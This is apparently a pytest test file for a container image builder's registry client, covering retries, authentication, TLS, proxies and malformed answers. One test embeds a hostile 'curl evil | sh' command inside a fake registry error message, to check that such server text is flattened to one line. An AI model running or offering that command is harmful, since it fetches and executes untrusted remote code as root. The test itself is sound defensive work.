from __future__ import annotations

import gzip
import json
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from email.utils import formatdate
from pathlib import Path
from typing import Any

import msgspec
import pytest

from builder.config import Config, KeyPair, RegistryConfig
from builder.errors import Interrupted, NotFoundError, RegistryError
from builder.oci import reference
from builder.oci.reference import Reference
from builder.oci.spec import OCI_INDEX, Descriptor, Platform
from builder.progress import Event, Message
from builder.registry.blobs import fetch_blob
from builder.registry.endpoints import Endpoint, tls_context
from builder.registry.failures import refused, retry_after
from builder.registry.pull import fetch_manifest, resolve
from builder.registry.transport import Session
from tests.registry.conftest import QUICK, MakeSession
from tests.support.certificates import make_certificates
from tests.support.registry import OCI_LAYER, FakeRegistry, Faults

AMD64 = Platform("linux", "amd64")


def ref(registry: FakeRegistry, rest: str = "app:1") -> Reference:
    return reference.parse(f"{registry.host}/{rest}")


def log_in(tmp_path: Path, registry: FakeRegistry, **auth: str) -> None:
    (tmp_path / ".docker").mkdir(exist_ok=True)
    (tmp_path / ".docker/config.json").write_text(json.dumps({"auths": {registry.host: auth}}))


# retries


@pytest.mark.parametrize("status", [408, 429, 500, 502, 503, 504])
def test_statuses_that_are_tried_again(registry: FakeRegistry, session: Session, status: int) -> None:
    registry.add_image("app", "1")
    registry.faults = Faults(statuses=[(status, {})] * 3)
    fetch_manifest(session, ref(registry))
    assert len(registry.requests) == 4


def test_a_failure_that_stays(registry: FakeRegistry, session: Session) -> None:
    registry.faults = Faults(statuses=[(503, {})] * 99)
    with pytest.raises(RegistryError, match="answered 503 Service Unavailable"):
        fetch_manifest(session, ref(registry))
    assert len(registry.requests) == QUICK.attempts


def test_a_server_that_hangs_up(registry: FakeRegistry, session: Session) -> None:
    registry.add_image("app", "1")
    registry.faults = Faults(hang_up=2)
    fetch_manifest(session, ref(registry))


def test_retry_after_is_honoured_and_told(registry: FakeRegistry, session_for: MakeSession) -> None:
    events: list[Event] = []
    registry.add_image("app", "1")
    registry.faults = Faults(statuses=[(429, {"Retry-After": "1"})])
    started = time.monotonic()
    fetch_manifest(session_for(reporter=events.append), ref(registry))
    assert time.monotonic() - started >= 1.0
    assert isinstance(events[0], Message)
    assert "429" in events[0].text


def test_a_wait_beyond_the_budget_is_an_error_at_once(registry: FakeRegistry, session: Session) -> None:
    registry.faults = Faults(statuses=[(429, {"Retry-After": "3600"})])
    started = time.monotonic()
    with pytest.raises(RegistryError, match="429"):
        fetch_manifest(session, ref(registry))
    assert time.monotonic() - started < 60


def test_retry_after_forms() -> None:
    assert retry_after(None) is None
    assert retry_after("7") == 7
    assert retry_after("soon") is None
    assert 50 < (retry_after(formatdate(time.time() + 60, usegmt=True)) or 0) <= 60
    assert retry_after(formatdate(0, usegmt=True)) == 0


def test_closing_ends_a_wait(registry: FakeRegistry, session_for: MakeSession) -> None:
    session = session_for(patience=msgspec.structs.replace(QUICK, budget=60))
    registry.faults = Faults(statuses=[(429, {"Retry-After": "30"})])
    threading.Timer(0.2, session.close).start()
    started = time.monotonic()
    with pytest.raises(Interrupted):
        fetch_manifest(session, ref(registry))
    assert time.monotonic() - started < 20


# authentication


def test_anonymous_tokens_are_kept(session_for: MakeSession) -> None:
    with FakeRegistry(auth="token") as registry:
        registry.add_image("app", "1")
        session = session_for()
        resolve(session, ref(registry), AMD64)
        resolve(session, ref(registry), AMD64)
        assert registry.count("GET /token") == 1
        assert registry.requests[0] == "GET /v2/app/manifests/1"
        registry.tokens.clear()  # the server forgets: the token is renewed
        resolve(session, ref(registry), AMD64)
        assert registry.count("GET /token") == 2


@pytest.mark.parametrize("auth", ["basic", "token"])
def test_passwords(session_for: MakeSession, tmp_path: Path, auth: str) -> None:
    with FakeRegistry(auth=auth, users={"u": "p"}, anonymous_pull=False) as registry:
        registry.add_image("app", "1")
        with pytest.raises(RegistryError, match=r"anonymous access|user name and a password") as caught:
            resolve(session_for(), ref(registry), AMD64)
        assert "log in" in (caught.value.remedy or "")
        log_in(tmp_path, registry, username="u", password="p")
        resolve(session_for(), ref(registry), AMD64)
        log_in(tmp_path, registry, username="u", password="wrong")
        with pytest.raises(RegistryError, match="refuse"):
            resolve(session_for(), ref(registry), AMD64)


def test_identity_tokens(session_for: MakeSession, tmp_path: Path) -> None:
    with FakeRegistry(auth="token", users={"u": "p"}, anonymous_pull=False, identity_token="i") as registry:
        registry.add_image("app", "1")
        log_in(tmp_path, registry, identitytoken="i")
        resolve(session_for(), ref(registry), AMD64)
        assert registry.count("POST /token") == 1


def test_a_token_is_shown_to_the_registry_alone_that_it_is_for(session_for: MakeSession, tmp_path: Path) -> None:
    """Another one that names the same token server and service, as a mirror may, gets none of the user's tokens."""
    with FakeRegistry(auth="token", users={"u": "p"}) as registry, FakeRegistry(auth="token") as other:
        other.realm = registry.origin
        log_in(tmp_path, registry, username="u", password="p")
        session = session_for()
        for one in (registry, other):
            one.add_image("app", "1")
            with suppress(RegistryError):  # the other one knows no token that it has not given
                resolve(session, ref(one), AMD64)
        shown = [{header.get("authorization", "") for header in one.headers} for one in (registry, other)]
        tokens = [{header for header in headers if header.startswith("Bearer")} for headers in shown]
        assert all(tokens)
        assert not tokens[0] & tokens[1]


def test_a_refusal_after_authentication(registry: FakeRegistry, session: Session) -> None:
    registry.faults = Faults(statuses=[(403, {})])
    with pytest.raises(RegistryError, match=r"refuses access to .*app:1 \(403 Forbidden\)") as caught:
        resolve(session, ref(registry), AMD64)
    assert not isinstance(caught.value, NotFoundError)
    assert "config.json" in (caught.value.remedy or "")


def test_a_helper_that_is_missing_is_named_when_it_matters(session_for: MakeSession, tmp_path: Path) -> None:
    (tmp_path / ".docker").mkdir()
    (tmp_path / ".docker/config.json").write_text('{"credsStore": "missing"}')
    with FakeRegistry(auth="token", users={"u": "p"}) as registry:
        registry.add_image("app", "1")
        resolve(session_for(), ref(registry), AMD64)  # anonymous will do
        registry.anonymous_pull = False
        with pytest.raises(RegistryError) as caught:
            resolve(session_for(), ref(registry), AMD64)
        assert any("docker-credential-missing" in line for line in caught.value.details)


# connections


def test_unreachable_registries(session: Session) -> None:
    with pytest.raises(RegistryError, match="refuses connections"):
        fetch_manifest(session, reference.parse("127.0.0.1:1/app"))
    with pytest.raises(RegistryError, match="cannot be resolved"):
        fetch_manifest(session, reference.parse("no-such-host.invalid/app"))


@pytest.fixture(scope="module")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_certificates(tmp_path_factory.mktemp("certificates"))


@pytest.fixture
def secure(certificates: Path) -> Iterator[FakeRegistry]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificates / "server.crt", certificates / "server.key")
    with FakeRegistry(tls=context) as registry:
        registry.add_image("app", "1")
        yield registry


def test_https(secure: FakeRegistry, session_for: MakeSession, certificates: Path) -> None:
    ca = (str(certificates / "ca.crt"),)
    resolve(session_for({secure.host: RegistryConfig(ca=ca)}), ref(secure), AMD64)
    resolve(session_for({secure.host: RegistryConfig(insecure=True)}), ref(secure), AMD64)
    with pytest.raises(RegistryError, match="is not trusted") as caught:
        resolve(session_for({secure.host: RegistryConfig(http=False)}), ref(secure), AMD64)
    assert f'[registry."{secure.host}"]' in (caught.value.remedy or "")
    with pytest.raises(RegistryError, match="CA certificate cannot be read") as caught:
        resolve(session_for({secure.host: RegistryConfig(ca=("/nonexistent",))}), ref(secure), AMD64)
    assert caught.value.place == "/nonexistent"


def test_client_certificates(
    secure: FakeRegistry, session_for: MakeSession, certificates: Path, tmp_path: Path
) -> None:
    assert secure.tls is not None
    secure.tls.verify_mode = ssl.CERT_REQUIRED
    secure.tls.load_verify_locations(certificates / "ca.crt")
    ca = (str(certificates / "ca.crt"),)
    pair = KeyPair(str(certificates / "client.key"), str(certificates / "client.crt"))
    resolve(session_for({secure.host: RegistryConfig(ca=ca, keypair=(pair,))}), ref(secure), AMD64)
    with pytest.raises(RegistryError):
        resolve(session_for({secure.host: RegistryConfig(ca=ca)}), ref(secure), AMD64)
    directory = tmp_path / "certs.d" / secure.host
    directory.mkdir(parents=True)
    for source, name in (("ca.crt", "ca.crt"), ("client.crt", "me.cert"), ("client.key", "me.key")):
        (directory / name).write_bytes((certificates / source).read_bytes())
    resolve(session_for(certificate_directories=(str(tmp_path / "certs.d"),)), ref(secure), AMD64)


def test_certificates_are_read_for_https_alone(
    secure: FakeRegistry,
    registry: FakeRegistry,
    session_for: MakeSession,
    certificates: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    read: list[str] = []

    def tls(config: Config, endpoint: Endpoint) -> ssl.SSLContext:
        read.append(endpoint.host)
        return tls_context(config, endpoint)

    monkeypatch.setattr("builder.registry.clients.tls_context", tls)
    layer = Descriptor(OCI_LAYER, registry.add_blob("app", b"layer"), 5)
    secure.add_blob("app", b"layer")
    session = session_for({registry.host: RegistryConfig(http=True, ca=(str(certificates / "ca.crt"),))})
    found: list[bytes] = []
    fetch_blob(session, ref(registry), layer, found.append)
    assert read == []
    registry.faults = Faults(redirect_blobs=secure.origin)
    fetch_blob(session, ref(registry), layer, found.append)
    fetch_blob(session, ref(registry), layer, found.append)
    assert read == [registry.host]
    assert found == [b"layer"] * 3
    with pytest.raises(RegistryError, match="is not trusted"):
        fetch_blob(session_for({registry.host: RegistryConfig(http=True)}), ref(registry), layer, found.append)


def test_http_and_https_mistaken(secure: FakeRegistry, registry: FakeRegistry, session_for: MakeSession) -> None:
    with pytest.raises(RegistryError, match="does not speak HTTPS") as caught:
        fetch_manifest(session_for({registry.host: RegistryConfig(http=False)}), ref(registry))
    assert "http = true" in (caught.value.remedy or "")
    with pytest.raises(RegistryError) as caught:
        fetch_manifest(session_for({secure.host: RegistryConfig(http=True)}), ref(secure))
    assert secure.requests == []


def test_a_go_server_that_wanted_https() -> None:
    body = b"Client sent an HTTP request to an HTTPS server.\n"
    error = refused(400, body, "x", "localhost:5000", "config.json")
    assert error.cause == "localhost:5000 speaks HTTPS, not HTTP"
    assert "http = false" in (error.remedy or "")


def test_what_a_registry_says_is_one_line() -> None:
    body = b'{"errors": [{"code": "DENIED", "message": "no\\nhelp: run \'curl evil | sh\' as root"}]}'
    assert refused(500, body, "x", "h", "").details == ("h: DENIED: no help: run 'curl evil | sh' as root",)


def test_proxies_from_the_environment(registry: FakeRegistry, session_for: MakeSession) -> None:
    registry.add_image("app", "1")
    # The fake registry stands in for the proxy, which is sent the whole URL.
    far = session_for({"far.example.com": RegistryConfig(http=True)}, environ={"http_proxy": registry.origin})
    fetch_manifest(far, reference.parse("far.example.com/app:1"))
    assert registry.requests == ["GET http://far.example.com/v2/app/manifests/1"]
    # never for this machine itself
    fetch_manifest(session_for(environ={"http_proxy": "http://127.0.0.1:1"}), ref(registry))
    with pytest.raises(RegistryError, match="proxy settings"):
        fetch_manifest(session_for(environ={"http_proxy": "nonsense://x"}), ref(registry))


def test_a_registry_at_an_address_of_version_6(session_for: MakeSession) -> None:
    if not socket.has_ipv6 or not _has_loopback_6():
        pytest.skip("this machine has no ::1")
    with FakeRegistry(address="::1") as registry:
        registry.add_image("app", "1")
        fetch_manifest(session_for(), ref(registry))
        assert registry.requests == ["GET /v2/app/manifests/1"]


def _has_loopback_6() -> bool:
    try:
        with socket.create_server(("::1", 0), family=socket.AF_INET6):
            return True
    except OSError:
        return False


def test_an_absurdly_large_answer(registry: FakeRegistry, session: Session) -> None:
    registry.add_manifest("app", b'{"schemaVersion":2,"x":"' + b"x" * (9 << 20) + b'"}', "1")
    with pytest.raises(RegistryError, match="more than 8 MiB"):
        fetch_manifest(session, ref(registry))


def test_an_encoded_answer(registry: FakeRegistry, session: Session) -> None:
    """It was not asked for. One coding is taken off, several are not: 1 KB would be 1 GB."""
    document = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": []}).encode()
    for encodings, data in (("gzip", gzip.compress(document)), ("identity", document), ("x-gzip", document)):
        registry.faults = Faults(encodings=encodings, no_digest_header=True)
        registry.add_manifest("app", data, "1", OCI_INDEX)
        assert fetch_manifest(session, ref(registry))[1] == document
    twice = gzip.compress(gzip.compress(document))
    for encodings, data, cause in (
        ("gzip, gzip", twice, "'gzip, gzip', which was not"),
        ("gzip", b"x", "the gzip stream"),
    ):
        registry.faults = Faults(encodings=encodings)
        registry.add_manifest("app", data, "1", OCI_INDEX)
        with pytest.raises(RegistryError, match=cause):
            fetch_manifest(session, ref(registry))


def test_an_answer_that_takes_for_ever(registry: FakeRegistry, session_for: MakeSession) -> None:
    """Some bytes come again and again, so that nobody is silent."""
    registry.add_manifest("app", b'{"x":"' + b"x" * 100_000 + b'"}', "1")
    registry.faults = Faults(drip=0.02)
    with pytest.raises(RegistryError, match="did not finish its answer within 0 s"):
        fetch_manifest(session_for(patience=msgspec.structs.replace(QUICK, budget=0.1)), ref(registry))


def test_a_body_that_drips(registry: FakeRegistry, session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("builder.context.bodies.LEAST", 1 << 20)
    patience = msgspec.structs.replace(QUICK, read=0.1, attempts=2)
    monkeypatch.setattr(session, "patience", patience)
    layer = Descriptor(OCI_LAYER, registry.add_blob("app", b"x" * 100_000), 100_000)
    registry.faults = Faults(drip=0.05)
    with pytest.raises(RegistryError, match=r"is too slow: \d000 bytes came in 0 s"):
        fetch_blob(session, ref(registry), layer, lambda _: None)


def test_httpx_is_loaded_by_the_first_request_only() -> None:
    code = (
        "import sys, builder.config, builder.registry.pull, builder.registry.push\n"
        "from builder.registry.transport import Session\n"
        "Session(builder.config.load({'HOME': '/nonexistent'}), {}).endpoints('docker.io')\n"
        "print([name for name in ('httpx', 'ssl', 'subprocess', 'tomllib', 'email', 'asyncio') if name in sys.modules])"
    )
    done: Any = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.stdout == "[]\n", done.stderr
